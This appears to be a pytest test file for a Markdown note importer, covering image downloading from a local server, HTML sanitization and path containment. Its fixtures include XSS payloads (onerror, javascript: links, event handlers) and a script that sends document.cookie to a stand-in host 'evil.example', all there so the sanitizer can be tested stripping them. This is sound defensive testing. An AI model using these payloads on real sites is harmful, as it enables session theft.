"""The importer brings remote images in, cleans raw HTML, and fails one file at a time.

Images come from an http.server on 127.0.0.1 started by the test; nothing here reaches
the internet (``offline`` below turns any other address into an error).
"""

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from conftest import build_project, make_project

from scripts.import_notes import remote
from scripts.import_notes.__main__ import main
from scripts.import_notes.rawhtml import sanitize

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(255, -1, -1))


class ImageServer:
    """Serves ``files`` (path -> bytes, content type); counts every request it answers."""

    def __init__(self, files: dict[str, tuple[bytes, str]]) -> None:
        self.files = files
        self.requests: list[str] = []
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's API)
                server.requests.append(self.path)
                path = self.path.split("?", 1)[0]
                if path not in server.files:
                    self.send_error(404)
                    return
                data, kind = server.files[path]
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


@pytest.fixture
def images(monkeypatch: pytest.MonkeyPatch) -> Iterator[ImageServer]:
    for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("no_proxy", "127.0.0.1,localhost")
    server = ImageServer(
        {
            "/yuque/0/2023/png/1/1694415059072-44336635.png": (PNG, "image/png"),
            "/blog/figure%201.jpg": (JPEG, "image/jpeg"),
            "/clip/images/b3d6feg4rm6eqxzrkhav3gn9.png": (PNG[::-1] + PNG, "image/png"),
        }
    )
    real = remote.urlopen

    def local_only(request: object, *args: object, **kwargs: object) -> object:
        url = getattr(request, "full_url", request)
        assert str(url).startswith(server.url), f"test tried the internet: {url}"
        return real(request, *args, **kwargs)

    monkeypatch.setattr(remote, "urlopen", local_only)
    yield server
    server.httpd.shutdown()
    server.httpd.server_close()


@pytest.fixture(autouse=True)
def in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``--into`` must lie inside the current folder."""
    monkeypatch.chdir(tmp_path)


def run_main(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, str, str]:
    status = main([str(arg) for arg in argv])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def read_page(path: Path) -> tuple[dict[str, object], str]:
    _, header, body = path.read_text(encoding="utf-8").split("---\n", 2)
    return yaml.safe_load(header), body[1:]


def sources(folder: Path, base: str) -> list[Path]:
    """A Yuque export, a Hugo post and a web clip, with images on ``base``."""
    folder.mkdir(parents=True, exist_ok=True)
    yuque = folder / "course.md"
    yuque.write_text(
        "# Task 1 图片\n"
        f"![chrome.png]({base}/yuque/0/2023/png/1/1694415059072-44336635.png#averageHue=%23f9f8f7&clientId=u1&width=10)\n"
        "# Task 2 同一张图\n"
        f"再看一次：![chrome.png]({base}/yuque/0/2023/png/1/1694415059072-44336635.png?x-oss-process=a#averageHue=1)\n"
        "```html\n"
        f'<img src="{base}/yuque/in-code.png" onerror="alert(1)">\n'
        "```\n",
        encoding="utf-8",
    )
    hugo = folder / "post.md"
    hugo.write_text(
        "---\ntitle: 图文\nformat: hugo-md\n---\n\n"
        f'<img src="{base}/blog/figure%201.jpg" alt="图一" width="300">\n\n'
        f"`![inline code]({base}/blog/never.png)` stays code.\n",
        encoding="utf-8",
    )
    clip = folder / "clip.txt"
    clip.write_text(
        "首页\n剪藏的文章\n创建于: 2024-02-23\n"
        f"![image.png]({base}/clip/images/b3d6feg4rm6eqxzrkhav3gn9.png)正文\n"
        f"![gone.png]({base}/clip/images/gone.png)\n"
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n'
        '<img src="x" onerror="alert(1)">\n'
        "<details><summary>展开</summary>按 <kbd>Ctrl</kbd>，"
        '<span style="color:red" onmouseover="alert(2)">红色</span></details>\n'
        "> 引用里的 a > b 不变\n"
        "随记\n",
        encoding="utf-8",
    )
    return [yuque, hugo, clip]


def test_remote_images_are_brought_in_once(
    tmp_path: Path, images: ImageServer, capsys: pytest.CaptureFixture[str]
) -> None:
    yuque, hugo, clip = sources(tmp_path / "raw", images.url)
    into = tmp_path / "docs" / "导入"

    status, stdout, stderr = run_main(capsys, yuque, hugo, clip, "--into", into)

    assert status == 0, stderr
    attachments = into / "attachments"
    files = sorted(path.name for path in attachments.iterdir())
    assert len(files) == 4, files  # the query string makes the second Yuque URL another image
    assert all("averageHue" not in name and "?" not in name and "%" not in name for name in files)

    _, first = read_page(into / "task-01-图片.md")
    _, second = read_page(into / "task-02-同一张图.md")
    local = first.split("(", 1)[1].split(")", 1)[0]
    assert local.startswith("attachments/1694415059072-44336635-") and local.endswith(".png")
    assert (into / local).read_bytes() == PNG
    assert "http" not in first
    other = second.split("](", 1)[1].split(")", 1)[0]
    assert other.startswith("attachments/") and other != local and (into / other).read_bytes() == PNG
    assert f'<img src="{images.url}/yuque/in-code.png" onerror="alert(1)">' in second, "code stays as written"

    _, post = read_page(into / "图文.md")
    jpg = next(name for name in files if name.startswith("figure-1-"))
    assert jpg.endswith(".jpg") and (attachments / jpg).read_bytes() == JPEG
    assert f'<img src="attachments/{jpg}" alt="图一" width="300"' in post
    assert f"`![inline code]({images.url}/blog/never.png)`" in post

    _, page = read_page(into / "剪藏的文章.md")
    clipped = next(name for name in files if name.startswith("b3d6feg4rm6eqxzrkhav3gn9-"))
    assert f"![image.png](attachments/{clipped})正文" in page
    assert (attachments / clipped).read_bytes() == PNG[::-1] + PNG
    dead = f"{images.url}/clip/images/gone.png"
    assert f"![gone.png]({dead})" in page
    clip_line = next(line for line in stdout.splitlines() if line.startswith("clip.txt:"))
    assert f"image not downloaded, address kept: {dead} (HTTP 404)" in clip_line

    # The clip's script and handlers are gone; safe HTML and Markdown quotes stay.
    assert "<script" not in page and "document.cookie" not in page and "onerror" not in page
    assert "onmouseover" not in page
    assert '<img src="x"' in page
    assert '<details><summary>展开</summary>按 <kbd>Ctrl</kbd>，<span style="color:red">红色</span></details>' in page
    assert "> 引用里的 a > b 不变" in page
    assert "removed unsafe HTML: <script>, onerror=, onmouseover=" in clip_line

    # A second run asks for nothing it has; the dead image is asked for again.
    asked = len(images.requests)
    assert asked == 5
    status, stdout, _ = run_main(capsys, yuque, hugo, clip, "--into", into)
    assert status == 0
    assert images.requests[asked:] == ["/clip/images/gone.png"]
    assert all(", 0 written, " in line for line in stdout.splitlines())


def test_downloading_can_be_turned_off(tmp_path: Path, images: ImageServer, capsys: pytest.CaptureFixture[str]) -> None:
    yuque, _, _ = sources(tmp_path / "raw", images.url)

    status, _, _ = run_main(capsys, yuque, "--into", tmp_path / "out", "--no-download-images")

    assert status == 0 and images.requests == []
    assert not (tmp_path / "out" / "attachments").exists()
    assert f"]({images.url}/yuque/0/2023/png/1/1694415059072-44336635.png)" in (
        tmp_path / "out" / "task-01-图片.md"
    ).read_text(encoding="utf-8")


def test_vault_attachment_folder_is_used(
    tmp_path: Path, images: ImageServer, capsys: pytest.CaptureFixture[str]
) -> None:
    docs = tmp_path / "docs"
    (docs / ".obsidian").mkdir(parents=True)
    (docs / ".obsidian" / "app.json").write_text('{"attachmentFolderPath": "attachments"}', encoding="utf-8")
    _, hugo, _ = sources(tmp_path / "raw", images.url)

    assert run_main(capsys, hugo, "--into", docs / "博客")[0] == 0

    [jpg] = (docs / "attachments").iterdir()
    assert f'<img src="../attachments/{jpg.name}"' in (docs / "博客" / "图文.md").read_text(encoding="utf-8")


def test_a_silent_server_times_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import socket

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()  # accepts, never answers
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/slow.png"
    source = tmp_path / "note.md"
    source.write_text(f"---\nformat: hugo-md\ntitle: 慢\n---\n![slow]({url})\n", encoding="utf-8")
    try:
        status, stdout, _ = run_main(capsys, source, "--into", tmp_path / "out", "--image-timeout", "0.5")
    finally:
        listener.close()

    assert status == 0
    assert f"image not downloaded, address kept: {url} (no answer within 0.5 s)" in stdout
    assert f"![slow]({url})" in (tmp_path / "out" / "慢.md").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "text",
    [
        "```html\n<script>alert(1)</script>\n```\n",
        "~~~\n<img src=x onerror=alert(1)>\n~~~\n",
        "段落\n\n    <b onclick=alert(1)>indented code</b>\n",
        "用 `<img src=x onerror=alert(1)>` 举例\n",
        "> 引用 a > b，公式 $0<x<1$ 和 $y>2$\n",
        "<https://example.com/a?b=1> 和 <me@example.com>\n",
        "集合 {a=1, b=2} 和 `{: onclick=x}`\n",
    ],
    ids=["fenced", "tilde", "indented", "inline-code", "quote-math", "autolinks", "braces"],
)
def test_code_quotes_and_formulas_are_left_as_written(text: str) -> None:
    assert sanitize(text).body == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>\nalert(1)\n</script>\n后文\n", "\n后文\n"),
        ('<img src="a.png" onerror="alert(1)">', '<img src="a.png" referrerpolicy="no-referrer">'),
        ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
        (
            "<div>\n`<img src=x onerror=alert(1)>`\n</div>",
            '<div>\n`<img src="x" referrerpolicy="no-referrer">`\n</div>',
        ),
        ("<table><tr><td colspan=2 onclick=x>格</td></tr></table>", '<table><tr><td colspan="2">格</td></tr></table>'),
        ("<!-- x --!><script>alert(1)</script> -->", " --&gt;"),
        ("a <style>p{}</style>b", "a b"),
        ('段落\n{: .note onclick="alert(1)" }', "段落\n{: .note  }"),
        ('[链接](y){ href="javascript:alert(1)" title=好 }', "[链接](y){  title=好 }"),
    ],
    ids=[
        "script-block",
        "onerror",
        "javascript",
        "raw-block-code",
        "table",
        "comment-trick",
        "style",
        "attr-list-handler",
        "attr-list-href",
    ],
)
def test_html_is_cleaned_piece_by_piece(text: str, expected: str) -> None:
    assert sanitize(text).body == expected


BAD_DATE_POST = "---\ntitle: 坏日期\nformat: hugo-md\nupdated: 2024-02-30\n---\n\n正文。\n"
ICON_POST = """\
---
title: 有图标的文章
format: hugo-md
date: 2024-05-01
icon: material/nonexistent
template: nowhere.html
lastmod: 2024-05-02
description: 一篇文章
---

正文，<kbd>Ctrl</kbd>。
"""
TWIN_CHAPTERS = "# Task 1 开篇\n第一章。\n# Task 3 重复\n第一个。\n# Task 3 重复\n第二个。\n"


def test_files_fail_alone_twins_are_kept_and_the_site_builds(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = make_project(tmp_path / "site", {"index.md": "# 首页\n"})
    raw = tmp_path / "raw"
    raw.mkdir()
    (raw / "bad.md").write_text(BAD_DATE_POST, encoding="utf-8")
    (raw / "icon.md").write_text(ICON_POST, encoding="utf-8")
    (raw / "course.md").write_text(TWIN_CHAPTERS, encoding="utf-8")
    files = [raw / "bad.md", raw / "icon.md", raw / "course.md"]

    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(project)
        status, stdout, stderr = run_main(capsys, *files, "--into", "docs/导入", "--no-download-images")
        again = [run_main(capsys, *files[1:], "--into", "docs/导入", *flag)[:2] for flag in ([], ["--force"])]

    assert status == 1
    assert stderr == (
        f"error: {raw / 'bad.md'}: bad front matter: updated: 2024-02-30 (day is out of range for month)\n"
    )
    out = project / "docs" / "导入"
    names = sorted(path.name for path in out.iterdir())
    assert names == ["task-01-开篇.md", "task-03-重复-2.md", "task-03-重复.md", "有图标的文章.md"]
    assert read_page(out / "task-03-重复.md")[1] == "第一个。\n"
    assert read_page(out / "task-03-重复-2.md")[1] == "第二个。\n"
    meta, _ = read_page(out / "有图标的文章.md")
    assert "icon" not in meta and "template" not in meta
    assert meta["updated"].isoformat() == "2024-05-02" and meta["description"] == "一篇文章"
    icon_line = next(line for line in stdout.splitlines() if line.startswith("icon.md:"))
    assert "dropped front matter icon, template (not a key the site knows)" in icon_line
    assert "renamed front matter lastmod → updated" in icon_line
    for status, stdout in again:
        assert status == 0 and "course.md: yuque, 0 written, 3 unchanged, 0 skipped" in stdout
    assert sorted(path.name for path in out.iterdir()) == names

    site, log = build_project(project)
    assert (site / "导入" / "task-03-重复-2" / "index.html").is_file()
    assert "第二个" in (site / "导入" / "task-03-重复-2" / "index.html").read_text(encoding="utf-8")
    assert (site / "导入" / "有图标的文章" / "index.html").is_file()
    assert "nonexistent" not in log


def test_into_must_stay_inside_the_project(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    project = tmp_path / "project"
    project.mkdir()
    source = tmp_path / "note.md"
    source.write_text("# 笔记\n正文\n", encoding="utf-8")
    (project / "dangling").symlink_to(tmp_path / "nowhere")
    (project / "escape").symlink_to(tmp_path)

    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(project)
        results = [run_main(capsys, source, "--into", into) for into in ("dangling/sub", "escape/out", "../out")]

    for status, stdout, stderr in results:
        assert status == 2 and stdout == ""
        assert stderr.startswith("error: --into ") and stderr.count("\n") == 1
    assert "dangling symbolic link" in results[0][2]
    assert "outside the project" in results[1][2] and "outside the project" in results[2][2]
    assert not (tmp_path / "nowhere").exists() and not (tmp_path / "out").exists()
    assert sorted(path.name for path in project.iterdir()) == ["dangling", "escape"]
